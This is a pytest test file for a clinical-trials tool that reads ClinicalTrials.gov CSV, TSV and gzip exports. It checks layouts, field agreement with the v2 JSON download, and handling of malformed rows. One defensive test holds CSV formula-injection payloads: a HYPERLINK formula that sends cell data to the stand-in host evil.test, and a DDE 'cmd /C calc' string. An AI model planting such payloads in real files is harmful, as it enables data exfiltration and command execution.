"""ClinicalTrials.gov website exports (the "Download" button: CSV or TSV) as users download
them: every layout in shared/data/trials is recognised and read whole, with the counts and the
fields checked against the file itself (the csv module, a date parsed here), and the same
trials downloaded as CSV and as the v2 JSON ZIP agree on every field both carry.

Layouts: the current site's default 30 columns (with Brief Summary) and 29 columns, a 9-column
choice; the classic site's 27-column ``SearchResults.csv`` and its oldest 8-column default
(no NCT Number: the id only in the URL). Each also as TSV and gzip-compressed."""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from neuromodmap._utils import restore_formula
from neuromodmap.cli import app
from neuromodmap.trials import ImportProblem, TrialStore, read_trials
from neuromodmap.trials._readers._common import TrialFileError
from neuromodmap.trials.io import TrialReader, detect_format

CUR30 = "ctgov_csv_mixed_1000_anand21jv/ctg-studies.csv.gz"
MARC = "ctgov_v2_json_zip_and_csv_erectile_dysfunction_marcmorcos"
CUR29 = f"{MARC}/ctg-studies.csv.gz"
MARC_ZIP = f"{MARC}/ctg-studies.json.zip"
CUR9 = "ctgov_csv_alzheimer_dementia_sammijiyoung2/ctg-studies.csv.gz"
CLASSIC27 = "ctgov_legacy_xml_allpublicxml_subset_reesewang25/SearchResults.csv"
CLASSIC8 = "ctgov_csv_classic_oldformat_trauma_jeffreys518/SearchResults.csv.gz"

LAYOUTS = [
    # (file, columns, rows: from the folder's SOURCES.md, words of the layout)
    (CUR30, 30, 1000, "current site"),
    (CUR29, 29, 635, "current site"),
    (CUR9, 9, 4145, "current site"),
    (CLASSIC27, 27, 100, "classic site"),
    (CLASSIC8, 8, 5938, "classic site"),
]
runner = CliRunner()


def _read(path, **kw):
    problems: list[ImportProblem] = []
    return list(read_trials(path, problems=problems, **kw)), problems


def _text(path: Path) -> str:
    data = path.read_bytes()
    return (gzip.decompress(data) if data[:2] == b"\x1f\x8b" else data).decode("utf-8")


def _table(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(_text(path), newline="")))


def _start_lines(path: Path) -> list[int]:
    """The line each data row starts on (cells may hold line breaks)."""
    reader = csv.reader(io.StringIO(_text(path), newline=""))
    starts, last = [], 0
    for _ in reader:
        starts.append(last + 1)
        last = reader.line_num
    return starts[1:]


def _nct(row: dict[str, str]) -> str:
    return row.get("NCT Number") or re.search(r"NCT\d{8}", row["URL"]).group()


def _date(cell: str) -> dt.date | None:
    """The website's date spellings, parsed here: 2025-05-09, 2025-05 (the first), February 1, 2020."""
    if not cell:
        return None
    for fmt in ("%Y-%m-%d", "%Y-%m", "%B %d, %Y", "%B %Y"):
        try:
            return dt.datetime.strptime(cell, fmt).date()
        except ValueError:
            continue
    raise AssertionError(f"date spelling not expected in the file: {cell!r}")


# the classic site's words for the API v2 enumerations (ClinicalTrials.gov's data dictionary)
_PHASE = {"Early Phase 1": "EARLY_PHASE1", "Phase 1": "PHASE1", "Phase 2": "PHASE2", "Phase 3": "PHASE3",
          "Phase 4": "PHASE4", "Not Applicable": "NA"}
_STATUS = {"Unknown status": "UNKNOWN"}


def _phases(cell: str) -> list[str]:
    return [_PHASE.get(p, p) for p in cell.split("|") if p]


def _status(cell: str) -> str | None:
    if not cell:
        return None
    return _STATUS.get(cell) or cell.upper().replace(", ", "_").replace(" ", "_")


def _distinct(cell: str) -> list[str]:
    out: list[str] = []
    for part in cell.split("|"):
        if part.strip() and part.strip() not in out:
            out.append(part.strip())
    return out


# ---------------------------------------------------------------- every layout
@pytest.mark.parametrize(("name", "n_columns", "n_rows", "site"), LAYOUTS, ids=[x[0].split("_")[2] for x in LAYOUTS])
def test_every_layout_read_whole(trials_dir, name, n_columns, n_rows, site):
    path = trials_dir / name
    table = _table(path)
    assert len(table[0]) == n_columns and len(table) == n_rows
    assert detect_format(path) == ("ctgov_csv_gz" if name.endswith(".gz") else "ctgov_csv")
    reader = TrialReader(path, problems=(problems := []))
    records = list(reader)
    assert problems == []
    assert [r.trial.registry_id for r in records] == [_nct(row) for row in table]
    assert reader.provenance == f"ClinicalTrials.gov website export ({site}, CSV, {n_columns} columns)"
    for rec, row in zip(records, table, strict=True):
        t = rec.trial
        assert t.source_format == "ctgov_csv" and t.registry == "ctgov"
        assert t.title == (row.get("Study Title") or row.get("Title")).strip()
        assert t.url == f"https://clinicaltrials.gov/study/{t.registry_id}"
        assert t.overall_status == _status(row.get("Study Status") or row.get("Status"))
        assert t.conditions == _distinct(row["Conditions"])
        # each intervention is written TYPE: name (or Type: name), joined with |
        named = [i.name for i in t.interventions]
        assert all(n in row["Interventions"] for n in named)
        assert len(named) <= row["Interventions"].count(":")
        if "Phases" in row:
            assert t.phases == _phases(row["Phases"])
        if "Enrollment" in row:
            assert t.enrollment == (int(row["Enrollment"]) if row["Enrollment"] else None)
        if "Start Date" in row:
            assert t.start_date == _date(row["Start Date"])
            assert t.completion_date == _date(row["Completion Date"])
            assert t.last_update == _date(row["Last Update Posted"])
        if "Study Results" in row:
            assert t.has_results is {"YES": True, "NO": False, "Has Results": True,
                                     "No Results Available": False}[row["Study Results"]]
        if "Sponsor" in row:
            assert t.sponsor == (row["Sponsor"] or None)
        if "Brief Summary" in row:
            assert t.brief_summary == row["Brief Summary"].strip()
    # the as-of date: the latest date posted in the file (the export was made that day or later)
    posted = [_date(row[c]) for row in table for c in ("First Posted", "Last Update Posted", "Results First Posted")
              if row.get(c)]
    assert reader.default_as_of() == (max(posted) if posted else None)


def test_as_of_dates_of_the_shipped_exports(trials_dir):
    """Each folder's SOURCES.md dates its download; the latest date posted must not be later."""
    assert TrialReader(trials_dir / CUR30).default_as_of() == dt.date(2025, 5, 9)  # "Latest Last Update Posted 2025-05-09"
    assert TrialReader(trials_dir / CUR29).default_as_of() <= dt.date(2024, 9, 24)  # versionHolder of the same download
    assert TrialReader(trials_dir / CLASSIC27).default_as_of() == dt.date(2023, 2, 3)  # "first posted around 2023-02-03"
    assert TrialReader(trials_dir / CLASSIC8).default_as_of() is None  # 8 columns: no date at all


@pytest.mark.parametrize("name", [CUR30, CLASSIC27, CLASSIC8, CUR9])
def test_tsv_and_gzip_read_as_the_csv(trials_dir, tmp_path, name):
    """The website offers TSV as well: the same rows, tab-separated, give the same records;
    so does the plain CSV of a shipped .csv.gz (and the gzip of a plain CSV)."""
    src = trials_dir / name
    rows = list(csv.reader(io.StringIO(_text(src), newline="")))
    tsv = tmp_path / "ctg-studies.tsv"
    with open(tsv, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, delimiter="\t", lineterminator="\n").writerows(rows)
    plain = tmp_path / "ctg-studies.csv"
    plain.write_text(_text(src), encoding="utf-8", newline="")
    packed = tmp_path / "ctg-studies.csv.gz"
    packed.write_bytes(gzip.compress(plain.read_bytes()))
    base, none = _read(src)
    assert none == []
    for path, fmt in ((tsv, "ctgov_csv"), (plain, "ctgov_csv"), (packed, "ctgov_csv_gz")):
        assert detect_format(path) == fmt
        got, problems = _read(path)
        assert problems == []
        assert [(r.trial.model_dump(), r.raw, r.location) for r in got] == [
            (r.trial.model_dump(), r.raw, r.location) for r in base]
    columns = len(rows[0])
    assert TrialReader(tsv).provenance.endswith(f", TSV, {columns} columns)")  # before reading, too


# ---------------------------------------------------------------- CSV against the v2 JSON ZIP
def test_website_csv_agrees_with_the_v2_json_download(trials_dir):
    """The same erectile-dysfunction query downloaded as CSV and as the ZIP of v2 JSON
    (SOURCES.md: the same 635 studies). Every field both carry agrees for every trial."""
    table = _table(trials_dir / CUR29)
    with zipfile.ZipFile(trials_dir / MARC_ZIP) as zf:
        members = {n.removesuffix(".json") for n in zf.namelist()}
    overlap = {row["NCT Number"] for row in table} & members
    assert len(overlap) == len(table) == len(members) == 635
    csv_trials = {r.trial.registry_id: r.trial for r in _read(trials_dir / CUR29)[0]}
    json_trials = {r.trial.registry_id: r.trial for r in _read(trials_dir / MARC_ZIP)[0]}
    assert set(csv_trials) == set(json_trials) == overlap
    same = ["registry", "title", "acronym", "overall_status", "study_type", "phases", "conditions",
            "enrollment", "start_date", "completion_date", "last_update", "countries", "sponsor",
            "sponsor_class", "has_results", "allocation", "masking", "primary_purpose", "secondary_ids", "url"]
    mismatches = []
    for nct in sorted(overlap):
        c, j = csv_trials[nct], json_trials[nct]
        for name in same:
            if getattr(c, name) != getattr(j, name):
                mismatches.append((nct, name, getattr(c, name), getattr(j, name)))
        # interventions: the CSV has type and name only
        if [(i.type, i.name) for i in c.interventions] != [(i.type, i.name) for i in j.interventions]:
            mismatches.append((nct, "interventions", c.interventions, j.interventions))
        # outcomes: the CSV cell is "measure, description, time frame"; the JSON's measure starts it
        for name in ("primary_outcomes", "secondary_outcomes"):
            a, b = getattr(c, name), getattr(j, name)
            if len(a) != len(b) or not all(x.startswith(y) for x, y in zip(a, b, strict=True)):
                mismatches.append((nct, name, a, b))
    assert mismatches == []
    # and the fields are filled, not agreeing by being empty on both sides
    filled = {name: sum(bool(getattr(t, name)) for t in csv_trials.values()) for name in same}
    assert min(filled[n] for n in ("title", "overall_status", "conditions", "start_date", "sponsor")) >= 620
    assert filled["phases"] >= 500 and filled["countries"] >= 400 and filled["enrollment"] >= 600


# ---------------------------------------------------------------- bad cells, bad rows
def _edit_row(src: Path, tmp_path: Path, index: int, edits: dict[str, str]) -> tuple[Path, dict[str, str]]:
    rows = _table(src)
    header = list(rows[0])
    row = dict(rows[index])
    for column, value in edits.items():
        assert column in row
        rows[index] = {**rows[index], column: value}
    out = tmp_path / "ctg-studies.csv"
    with open(out, "w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=header)
        writer.writeheader()
        writer.writerows(rows)
    return out, row


BAD_CELLS = [
    # (column, bad value, Trial field emptied and its empty value, words of the reason)
    ("Enrollment", "about 60", "enrollment", None, "expected a count"),
    ("Start Date", "sometime", "start_date", None, "unrecognised date"),
    ("Start Date", "2025-02-30", "start_date", None, "invalid date"),
    ("Phases", "PHASE9", "phases", [], "PHASE9"),
    ("Study Results", "MAYBE", "has_results", None, "expected YES/NO"),
]


@pytest.mark.parametrize(("column", "bad", "field", "empty", "reason"), BAD_CELLS, ids=[b[0] + ":" + b[1] for b in BAD_CELLS])
def test_bad_cell_empties_that_field_only(trials_dir, tmp_path, column, bad, field, empty, reason):
    src = trials_dir / CUR29
    # a row whose cell holds a value, so emptying it is seen
    index = next(i for i, row in enumerate(_table(src))
                 if row["Enrollment"] and row["Start Date"] and row["Phases"] and row["Study Results"] == "YES")
    path, row = _edit_row(src, tmp_path, index, {column: bad})
    whole, _ = _read(src)
    records, problems = _read(path)
    assert len(records) == len(whole) == 635
    got, before = records[index].trial, whole[index].trial
    assert got.registry_id == row["NCT Number"]
    assert getattr(before, field) != empty and getattr(got, field) == empty
    if field.endswith("_date"):  # an emptied date has no precision either
        assert getattr(before, f"{field}_precision") and getattr(got, f"{field}_precision") is None
    rest = set(type(got).model_fields) - {field, f"{field}_precision"}
    assert {n: getattr(got, n) for n in rest} == {n: getattr(before, n) for n in rest}
    assert records[index].raw[column] == bad  # the raw record keeps the cell as read
    assert len(problems) == 1
    p = problems[0]
    assert (p.source, p.location, p.registry_id, p.field, p.action) == (
        str(path), f"line {_start_lines(path)[index]}", row["NCT Number"], column, "field emptied")
    assert reason in p.reason
    assert [r.trial for r in records[:index] + records[index + 1:]] == [r.trial for r in whole[:index] + whole[index + 1:]]


def test_row_without_nct_id_is_skipped(trials_dir, tmp_path):
    src = trials_dir / CUR29
    path, row = _edit_row(src, tmp_path, 7, {"NCT Number": "", "Study URL": "https://clinicaltrials.gov/"})
    records, problems = _read(path)
    assert len(records) == 634 and row["NCT Number"] not in {r.trial.registry_id for r in records}
    assert len(problems) == 1
    p = problems[0]
    assert (p.location, p.action, p.field) == (f"line {_start_lines(path)[7]}", "record skipped", "NCT Number")
    assert "no NCT id" in p.reason
    # a cell that is not an NCT id at all
    path, _ = _edit_row(src, tmp_path, 7, {"NCT Number": "=1+1"})
    records, problems = _read(path)
    assert len(records) == 634 and len(problems) == 1 and problems[0].action == "record skipped"
    assert "not an NCT id" in problems[0].reason


def test_classic_row_without_url_id_is_skipped(trials_dir, tmp_path):
    """The oldest layout has no NCT Number: a row whose URL names no study cannot be imported."""
    src = trials_dir / CLASSIC8
    path, row = _edit_row(src, tmp_path, 0, {"URL": "https://ClinicalTrials.gov/show/"})
    records, problems = _read(path)
    assert len(records) == 5937
    assert len(problems) == 1 and problems[0].action == "record skipped" and problems[0].field == "URL"


def test_rows_with_more_or_fewer_cells(trials_dir, tmp_path):
    lines = _text(trials_dir / CLASSIC27).splitlines(keepends=True)
    # a row with a cell too many cannot be matched to its columns; a row cut short keeps its record
    lines[3] = lines[3].rstrip("\r\n") + ',"extra"\n'
    short = next(csv.reader([lines[5]]))
    lines[5] = ",".join(f'"{c}"' for c in short[:20]) + "\n"
    path = tmp_path / "SearchResults.csv"
    path.write_text("".join(lines), encoding="utf-8")
    records, problems = _read(path)
    assert len(records) == 99
    skipped = [p for p in problems if p.action == "record skipped"]
    emptied = [p for p in problems if p.action == "field emptied"]
    assert len(skipped) == 1 and skipped[0].location == "line 4" and "28 cells, the header has 27" in skipped[0].reason
    assert len(emptied) == 1 and emptied[0].registry_id == short[1] and emptied[0].field == "Completion Date"
    kept = next(r.trial for r in records if r.trial.registry_id == short[1])
    assert kept.start_date == _date(short[18]) and kept.completion_date is None


def test_cell_not_utf8_is_read_as_cp1252(trials_dir, tmp_path):
    """A website export saved again by a spreadsheet on Windows: a cell in Windows-1252."""
    text = _text(trials_dir / CLASSIC27)
    row = _table(trials_dir / CLASSIC27)[2]
    title = row["Title"]
    data = text.encode("utf-8").replace(title.encode("utf-8"), (title + " caf\u00e9").encode("cp1252"), 1)
    path = tmp_path / "SearchResults.csv"
    path.write_bytes(data)
    records, problems = _read(path)
    assert len(records) == 100
    assert records[2].trial.title == title + " caf\u00e9"
    assert [(p.field, p.action, p.registry_id) for p in problems] == [("Title", "field read as cp1252", row["NCT Number"])]


def test_a_file_with_website_columns_but_no_id_column_is_refused(trials_dir, tmp_path):
    rows = _table(trials_dir / CUR9)
    path = tmp_path / "ctg-studies.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        keep = ["Study Title", "Study Status", "Conditions", "Interventions"]
        writer = csv.DictWriter(fh, fieldnames=keep, extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows[:5])
    with pytest.raises(TrialFileError, match=r"ctg-studies\.csv.*without an 'NCT Number' or 'Study URL' column"):
        detect_format(path)


def test_cut_gzip_csv_keeps_whole_rows(trials_dir, tmp_path):
    """A .csv.gz cut short: the rows wholly before the cut (counted here from the decompressed
    prefix) and one problem naming the file; a row cut in half is never imported."""
    import zlib

    packed = trials_dir / CUR30
    whole, _ = _read(packed)
    data = packed.read_bytes()
    for frac in (0.3, 0.77):
        cut = tmp_path / f"cut{frac}.csv.gz"
        cut.write_bytes(data[: int(len(data) * frac)])
        text = zlib.decompressobj(16 + zlib.MAX_WBITS).decompress(cut.read_bytes()).decode("utf-8", "ignore")
        rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
        records, problems = _read(cut)
        assert [r.trial.registry_id for r in records] == [r[0] for r in rows[:-1]]
        assert [r.trial for r in records] == [r.trial for r in whole[: len(rows) - 1]]
        assert len(problems) == 1 and problems[0].source == str(cut)
        assert problems[0].action == "rest of file skipped" and "truncated gzip" in problems[0].reason


@pytest.mark.parametrize("where", ["after the first cell", "after the second cell"])
def test_gzip_cut_between_cells_never_imports_half_a_row(trials_dir, tmp_path, where):
    """gzip data that stop (no end marker) right after a row's first cells: that row is not
    imported (it would be a record with most fields empty), the rows before it are."""
    import zlib

    text = _text(trials_dir / CLASSIC8)  # rows: 11,"title","status",...: cut between cells
    starts = [m.start() for m in re.finditer(r'(?m)^\d+,"', text)]
    assert len(starts) == 5938
    row10 = starts[10]
    k = text.index(",", row10) + 1 if where == "after the first cell" else text.index('",', row10) + 2
    packer = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    cut = tmp_path / "SearchResults.csv.gz"
    cut.write_bytes(packer.compress(text[:k].encode("utf-8")) + packer.flush(zlib.Z_SYNC_FLUSH))
    whole, _ = _read(trials_dir / CLASSIC8)
    records, problems = _read(cut)
    assert [r.trial for r in records] == [r.trial for r in whole[:10]]
    assert len(problems) == 1 and problems[0].action == "rest of file skipped"
    assert "truncated gzip" in problems[0].reason


# ---------------------------------------------------------------- outputs and the CLI
def test_formula_cells_stay_defused_on_output(trials_dir, tmp_path, scan_formulas):
    """Registry text that looks like a formula (OWASP payloads) is stored as written and every
    table the CLI writes from it starts no formula."""
    payload_title = "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"rTMS\") rTMS for depression"
    src = trials_dir / CUR30
    index = 3
    path, row = _edit_row(src, tmp_path, index, {"Study Title": payload_title, "Sponsor": "@SUM(1+9)*cmd|' /C calc'!A0",
                                                 "Conditions": "+Depression|-Pain", "Locations": "Site, City, +Evil Land"})
    out = tmp_path / "out"
    out.mkdir()
    db = tmp_path / "t.duckdb"
    result = runner.invoke(app, ["trials", "classify", str(path), "-o", str(out / "labels.csv"), "--db", str(db)])
    assert result.exit_code == 0, result.output
    result = runner.invoke(app, ["trials", "survey", "--db", str(db), "-o", str(out / "survey")])
    assert result.exit_code == 0, result.output
    assert scan_formulas(out) == []
    with TrialStore(db) as store:
        title, sponsor, conditions = store.con.execute(
            "SELECT title, sponsor, conditions FROM trials WHERE registry_id = ?", [row["NCT Number"]]).fetchone()
    assert (title, sponsor) == (payload_title, "@SUM(1+9)*cmd|' /C calc'!A0")
    assert list(conditions) == ["+Depression", "-Pain"]
    labels = {restore_formula(r["registry_id"]): r for r in csv.DictReader(open(out / "labels.csv", encoding="utf-8"))}
    assert len(labels) == 1000


def test_cli_import_prints_what_it_read(trials_dir, tmp_path):
    db = tmp_path / "t.duckdb"
    result = runner.invoke(app, ["trials", "import", str(trials_dir / CUR30), str(trials_dir / CLASSIC8),
                                 "--db", str(db)])
    assert result.exit_code == 0, result.output
    out = " ".join(result.output.split())
    assert "ClinicalTrials.gov website export (current site, CSV, 30 columns), 1,000 records, as of 2025-05-09" in out
    assert "(classic site, CSV, 8 columns), 5,938 records, no as-of date in it (pass --as-of)" in out
    assert "Imported 6,938 trials" in out and "problem" not in out
    with TrialStore(db) as store:
        runs = store.con.execute("SELECT format, as_of, n_read FROM import_runs ORDER BY started").fetchall()
        n, n_dated = store.con.execute("SELECT count(*), count(as_of) FROM trials").fetchone()
    assert runs == [("ctgov_csv_gz", dt.date(2025, 5, 9), 1000), ("ctgov_csv_gz", None, 5938)]
    assert (n, n_dated) == (6938, 1000)
    # a bad cell and a row without id: the summary counts them by action, the exit code stays 0
    path, _ = _edit_row(trials_dir / CUR29, tmp_path, 4, {"Enrollment": "many"})
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    assert lines[10].startswith("NCT")
    lines[10] = re.sub(r"NCT\d{8}", "", lines[10])  # from the NCT Number and the Study URL
    path.write_text("".join(lines), encoding="utf-8")
    result = runner.invoke(app, ["trials", "import", str(path), "--db", str(db), "--as-of", "2024-09-24"])
    assert result.exit_code == 0, result.output
    out = " ".join(result.output.split())
    assert "634 records, as of 2024-09-24 (given)" in out
    assert "2 problem(s): " in out and "1 field(s) emptied (record kept)" in out and "1 record(s) skipped" in out
    assert "field Enrollment: expected a count, got 'many' [field emptied]" in out
    assert "no NCT id" in out and "[record skipped]" in out


def test_cli_import_of_a_csv_that_is_no_export(tmp_path):
    path = tmp_path / "notes.csv"
    path.write_text("name,value\nalpha,1\n", encoding="utf-8")
    result = runner.invoke(app, ["trials", "import", str(path), "--db", str(tmp_path / "t.duckdb")])
    assert result.exit_code == 2  # nothing readable: a user error, and no store left behind
    out = " ".join(result.output.split())
    assert "notes.csv: unrecognised trial file" in out and "no input could be read" in out
    assert not (tmp_path / "t.duckdb").exists()


def test_json_raw_record_is_the_row(trials_dir):
    """The raw record stored for a CSV row is the row itself, by the file's column names."""
    table = _table(trials_dir / CLASSIC27)
    records, _ = _read(trials_dir / CLASSIC27)
    assert [r.raw for r in records] == table
    json.dumps(records[0].raw)  # storable as JSON


def test_store_reads_a_website_export_once(trials_dir, tmp_path, monkeypatch):
    """The as-of date of an export (its latest date posted) enters every row's hash, yet the
    file's rows are tokenised once: the date is found while they are read and the rows are
    written after. The stored rows are those the same records give with the date known up
    front (what the store wrote when it read the file twice)."""
    from neuromodmap.trials._readers import ctgov_csv
    from neuromodmap.trials.store import record_columns

    calls = []
    rows = ctgov_csv.CsvExport._rows
    monkeypatch.setattr(ctgov_csv.CsvExport, "_rows", lambda self, fh: calls.append(1) or rows(self, fh))
    with TrialStore(tmp_path / "t.duckdb") as store:
        report = store.import_files([trials_dir / CUR30], progress=False)
        assert len(calls) == 1
        stored = store.con.execute("SELECT registry_id, as_of, raw, record_hash FROM trials ORDER BY registry_id").fetchall()
        assert store.con.execute("SELECT as_of FROM import_runs").fetchall() == [(dt.date(2025, 5, 9),)]
        assert store.import_files([trials_dir / CUR30], progress=False).n_upserted == 0  # same hashes again
    assert report.n_read == len(stored) == 1000
    assert {r[1] for r in stored} == {dt.date(2025, 5, 9)}  # the export's date, as SOURCES.md gives it
    monkeypatch.setattr(ctgov_csv.CsvExport, "_rows", rows)
    records = list(TrialReader(trials_dir / CUR30, problems=[]))
    cols = record_columns(records, str(trials_dir / CUR30), dt.date(2025, 5, 9))
    expected = sorted(zip(cols["registry_id"], cols["as_of"], cols["raw"], cols["record_hash"], strict=True))
    assert stored == expected
